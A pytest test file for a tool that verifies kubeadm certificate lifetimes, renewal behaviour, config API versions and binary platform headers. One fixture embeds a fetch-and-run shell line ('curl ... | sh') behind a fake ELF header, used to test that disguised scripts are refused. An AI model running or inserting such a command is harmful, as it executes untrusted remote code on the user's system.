from __future__ import annotations

import base64
import datetime as dt
import json
from pathlib import Path

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from longcert import verify
from longcert.errors import VerifyError
from longcert.versions import KubeVersion
from tests.standin_build import elf_header

NOW = dt.datetime(2026, 11, 29, tzinfo=dt.timezone.utc)
Key = ec.EllipticCurvePrivateKey


def make_cert(cn: str, days: int, issuer: tuple[x509.Certificate, Key] | None,
              ca: bool) -> tuple[x509.Certificate, Key]:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])
    issuer_name, signer = (issuer[0].subject, issuer[1]) if issuer else (name, key)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(issuer_name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(NOW).not_valid_after(NOW + dt.timedelta(days=days))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
            .sign(signer, hashes.SHA256()))
    return cert, key


def pem(cert: x509.Certificate) -> bytes:
    return cert.public_bytes(serialization.Encoding.PEM)


def write_pki(root: Path, version: KubeVersion, leaf_days: int, ca_days: int,
              overrides: dict[str, int] | None = None) -> None:
    overrides = overrides or {}
    cas = {}
    for name in verify.expected_certs(version):
        if name not in verify.CA_CERTS:
            continue
        cas[name] = make_cert(name, overrides.get(name, ca_days), None, True)
    for name in verify.expected_certs(version):
        path = root / "pki" / f"{name}.crt"
        path.parent.mkdir(parents=True, exist_ok=True)
        if name in cas:
            path.write_bytes(pem(cas[name][0]))
            continue
        signer = cas["etcd/ca"] if name.startswith("etcd/") else (
            cas["front-proxy-ca"] if name.startswith("front-proxy") else cas["ca"])
        cert, _ = make_cert(name, overrides.get(name, leaf_days), signer, False)
        path.write_bytes(pem(cert))
    for conf in verify.expected_kubeconfigs(version):
        cert, _ = make_cert(conf, overrides.get(conf, leaf_days), cas["ca"], False)
        data = {"apiVersion": "v1", "kind": "Config", "users": [
            {"name": "u", "user": {"client-certificate-data":
                                   base64.b64encode(pem(cert)).decode()}}]}
        (root / conf).write_text(yaml.safe_dump(data))


V128 = KubeVersion.parse("v1.28.7")


def test_correct_directory_passes(tmp_path: Path) -> None:
    write_pki(tmp_path, V128, 3650, 3650)
    checks, problems = verify.check_directory(tmp_path, V128, 10, 10)
    assert problems == []
    assert all(c.ok for c in checks), [c.problems for c in checks if not c.ok]
    assert len(checks) == 10 + 4
    assert {c.file for c in checks if c.kind == "ca"} == {
        "pki/ca.crt", "pki/front-proxy-ca.crt", "pki/etcd/ca.crt"}


def test_every_one_year_file_is_listed(tmp_path: Path) -> None:
    write_pki(tmp_path, V128, 365, 3650)
    checks, _ = verify.check_directory(tmp_path, V128, 10, 10)
    failing = {c.file for c in checks if not c.ok}
    assert "pki/apiserver.crt" in failing
    assert "admin.conf" in failing
    assert len(failing) == 7 + 4
    report = verify.VerifyReport("v1.28.7", "linux/amd64", "v1.28.7", 10, 10, tuple(checks))
    with pytest.raises(VerifyError) as err:
        verify.require_pass(report)
    assert "pki/apiserver.crt: valid 365.0 days, expected 3650" in str(err.value)
    assert str(err.value).splitlines()[0] == (
        "verification of v1.28.7 failed: all 11 leaf certificates are 1y; asked 10y: this "
        "binary was built with --years 1 (or is unpatched: upstream kubeadm makes 1y leaf "
        "certificates)")
    assert len(err.value.details) == 11


def test_leaf_outliving_its_ca(tmp_path: Path) -> None:
    write_pki(tmp_path, V128, 36500, 3650)
    checks, _ = verify.check_directory(tmp_path, V128, 100, 10)
    apiserver = next(c for c in checks if c.file == "pki/apiserver.crt")
    assert any("leaf outlives its CA" in p for p in apiserver.problems)


def test_missing_files_and_version_era(tmp_path: Path) -> None:
    v19 = KubeVersion.parse("v1.9.4")
    write_pki(tmp_path, v19, 3650, 3650)
    (tmp_path / "pki" / "apiserver.crt").unlink()
    _, problems = verify.check_directory(tmp_path, v19, 10, 10)
    assert problems == ["pki/apiserver.crt: missing (kubeadm v1.9.4 makes it)"]
    assert "etcd/ca" not in verify.expected_certs(v19)
    assert "super-admin.conf" in verify.expected_kubeconfigs(KubeVersion.parse("v1.29.0"))


def test_report_json(tmp_path: Path) -> None:
    write_pki(tmp_path, V128, 3650, 3650)
    checks, problems = verify.check_directory(tmp_path, V128, 10, 10)
    report = verify.VerifyReport("v1.28.7", "linux/amd64", "v1.28.7", 10, 10, tuple(checks),
                                 tuple(problems))
    data = json.loads(report.to_json())
    assert data["passed"] is True
    assert data["checks"][0]["ok"] is True


@pytest.mark.parametrize(("tag", "api", "phase"), [
    ("v1.9.4", "kubeadm.k8s.io/v1alpha1", ["alpha", "phase"]),
    ("v1.11.0", "kubeadm.k8s.io/v1alpha2", ["alpha", "phase"]),
    ("v1.12.10", "kubeadm.k8s.io/v1alpha3", ["alpha", "phase"]),
    ("v1.13.5", "kubeadm.k8s.io/v1beta1", ["init", "phase"]),
    ("v1.20.5", "kubeadm.k8s.io/v1beta2", ["init", "phase"]),
    ("v1.28.7", "kubeadm.k8s.io/v1beta3", ["init", "phase"]),
    ("v1.33.7", "kubeadm.k8s.io/v1beta4", ["init", "phase"]),
])
def test_config_and_commands_per_era(tag: str, api: str, phase: list[str]) -> None:
    version = KubeVersion.parse(tag)
    config = verify.kubeadm_config(version)
    docs = list(yaml.safe_load_all(config))
    assert all(d["apiVersion"] == api for d in docs)
    assert any(d.get("kubernetesVersion") == tag for d in docs)
    commands = verify.generate_commands(version, "/c.yaml")
    assert all(c[1:3] == phase for c in commands)


def test_reported_version() -> None:
    out = json.dumps({"clientVersion": {"gitVersion": "v1.9.4"}})
    assert verify.reported_version(out) == "v1.9.4"
    assert verify.reported_version("kubeadm version: &version.Info{}") == ""


def elf(machine: int) -> bytes:
    goarch = {62: "amd64", 183: "arm64", 22: "s390x", 40: "arm"}.get(machine)
    if goarch is None:  # a machine Go does not build for: the rest of the header as amd64's
        data = bytearray(elf_header("amd64"))
        data[18:20] = machine.to_bytes(2, "little")
        return bytes(data)
    return elf_header(goarch)


def pe(machine: int) -> bytes:
    head = bytearray(b"MZ" + b"\0" * 126)
    head[60:64] = (64).to_bytes(4, "little")
    head[64:70] = b"PE\0\0" + machine.to_bytes(2, "little")
    return bytes(head)


@pytest.mark.parametrize(("data", "platform"), [
    (elf(62), "linux/amd64"), (elf(183), "linux/arm64"), (elf(22), "linux/s390x"),
    (pe(0x8664), "windows/amd64"), (pe(0xAA64), "windows/arm64"),
    (b"\xcf\xfa\xed\xfe" + (0x0100000C).to_bytes(4, "little"), "darwin/arm64"),
    (b"#!/bin/sh\n", ""), (elf(999), ""), (elf(40), "linux/arm"),
])
def test_binary_platform(data: bytes, platform: str) -> None:
    assert verify.binary_platform(data)[0] == platform


@pytest.mark.parametrize(("data", "why"), [
    # a 64-byte ELF header and then a shell script (issue 20)
    (elf_header("amd64")[:64] + b"#!/bin/sh\ncurl -s https://x | sh\n" + bytes(64),
     "no executable segment"),
    (elf_header("amd64", elf_class=1), "ELF32 little-endian header for amd64"),
    (elf_header("amd64", osabi=9), "OS ABI 9 (not Linux; 9 is FreeBSD)"),
    (elf_header("amd64", e_type=1), "ET_REL (an object file), not an executable"),
    (elf_header("amd64", loadable=False), "no executable segment"),
    (elf_header("amd64")[:40], "cut short"),
], ids=["script-after-header", "elf32", "freebsd", "object", "no-load", "short"])
def test_an_elf_that_is_not_a_linux_executable_is_refused(data: bytes, why: str) -> None:
    platform, header = verify.binary_platform(data)
    assert platform == "" and why in header, header


def test_renew_commands_by_era() -> None:
    assert verify.renew_command(KubeVersion.parse("v1.13.5"), "/c") is None
    assert verify.renew_command(KubeVersion.parse("v1.14.8"), "/c")[1:4] == [
        "alpha", "certs", "renew"]
    assert "admin.conf" not in verify.renewed_files(KubeVersion.parse("v1.14.8"))
    assert verify.renew_command(KubeVersion.parse("v1.19.0"), "/c")[1:5] == [
        "alpha", "certs", "renew", "all"]
    assert verify.renew_command(KubeVersion.parse("v1.28.7"), "/c")[1:4] == [
        "certs", "renew", "all"]
    renewed = verify.renewed_files(KubeVersion.parse("v1.33.7"))
    assert "kubelet.conf" not in renewed and "super-admin.conf" in renewed
    assert "pki/ca.crt" not in renewed and "pki/apiserver.crt" in renewed


def test_renewal_must_reissue(tmp_path: Path) -> None:
    write_pki(tmp_path, V128, 3650, 3650)
    before, _ = verify.check_directory(tmp_path, V128, 10, 10)
    problems: list[str] = []
    renewed = verify.renewal_checks(tmp_path, V128, 10, 10, before, problems)
    assert {c.stage for c in renewed} == {"renew"}
    assert "pki/apiserver.crt: not re-issued by certs renew all" in problems


def test_not_executed_is_never_verified() -> None:
    report = verify.VerifyReport("v1.28.7", "windows/amd64", "", 10, 10, (), (), "", "PE amd64")
    assert report.status == "not-executed"
    with pytest.raises(VerifyError, match="nothing is verified"):
        verify.require_pass((report,))


V1_DEFAULTS = """apiVersion: kubeadm.k8s.io/v1
bootstrapTokens:
- groups:
  - system:bootstrappers:kubeadm:default-node-token
kind: InitConfiguration
localAPIEndpoint:
  advertiseAddress: 1.2.3.4
---
apiVersion: kubeadm.k8s.io/v1
caCertificateValidityPeriod: 87600h0m0s
certificateValidityPeriod: 8760h0m0s
kind: ClusterConfiguration
"""


@pytest.mark.parametrize(("output", "api"), [
    (V1_DEFAULTS, "kubeadm.k8s.io/v1"),
    (V1_DEFAULTS.replace("kubeadm.k8s.io/v1\n", "kubeadm.k8s.io/v1beta4\n"),
     "kubeadm.k8s.io/v1beta4"),
    ("apiVersion: evil.example/v1\nkind: InitConfiguration\n", ""),
    ("apiVersion: kubeadm.k8s.io/v1\nkind: ClusterConfiguration\n", ""),
    ("{{{ not yaml", ""),
])
def test_config_api_is_asked_of_the_binary(output: str, api: str) -> None:
    assert verify.api_from_defaults(output) == api


def test_a_v1_config_has_the_v1beta4_shape() -> None:
    version = KubeVersion.parse("v1.38.0")
    text = verify.kubeadm_config(version, stored_periods=True, api="kubeadm.k8s.io/v1")
    docs = list(yaml.safe_load_all(text))
    assert [d["apiVersion"] for d in docs] == ["kubeadm.k8s.io/v1"] * 2
    assert docs[0]["localAPIEndpoint"]["advertiseAddress"] == verify.ADVERTISE_ADDRESS
    assert docs[1]["certificateValidityPeriod"] == "8760h0m0s"
    assert verify.can_print_defaults(version)
    assert not verify.can_print_defaults(KubeVersion.parse("v1.12.10"))


def test_the_stored_config_scenario_picks_ecdsa_from_v131() -> None:
    v133, v130 = KubeVersion.parse("v1.33.7"), KubeVersion.parse("v1.30.0")
    assert [(s.name, s.encryption_algorithm) for s in verify.scenarios(v133, 10, 10, False)] == [
        ("init", ""), ("config-8760h-ecdsa", "ECDSA-P256")]
    assert [s.name for s in verify.scenarios(v130, 10, 10, False)] == ["init"]
    text = verify.kubeadm_config(v133, stored_periods=True, encryption_algorithm="ECDSA-P256")
    cluster = list(yaml.safe_load_all(text))[1]
    assert cluster["encryptionAlgorithm"] == "ECDSA-P256"
    assert "encryptionAlgorithm" not in verify.kubeadm_config(v133)


def test_a_file_with_another_key_type_is_a_problem(tmp_path: Path) -> None:
    from cryptography.hazmat.primitives.asymmetric import rsa

    version = KubeVersion.parse("v1.33.7")
    write_pki(tmp_path, version, 3650, 3650)  # every key ECDSA P-256
    assert verify.key_type_problems(tmp_path, version, "ECDSA-P256") == []
    ca_cert = x509.load_pem_x509_certificate((tmp_path / "pki/ca.crt").read_bytes())
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "kube-apiserver")])
    leaf = (x509.CertificateBuilder().subject_name(name).issuer_name(ca_cert.subject)
            .public_key(rsa_key.public_key()).serial_number(1)
            .not_valid_before(NOW).not_valid_after(NOW + dt.timedelta(days=3650))
            .sign(rsa_key, hashes.SHA256()))
    (tmp_path / "pki/apiserver.crt").write_bytes(pem(leaf))
    assert verify.key_type_problems(tmp_path, version, "ECDSA-P256") == [
        "pki/apiserver.crt: RSA-2048 key, the config asked for ECDSA-P256"]
    # A CA of your own (--ca-dir) was not made by kubeadm: its key type is yours.
    assert verify.key_type_problems(tmp_path, version, "RSA-2048",
                                    skip=frozenset({"pki/ca.crt", "pki/front-proxy-ca.crt",
                                                    "pki/etcd/ca.crt"}))[0].startswith(
        "pki/apiserver-kubelet-client.crt: ECDSA-P256 key")
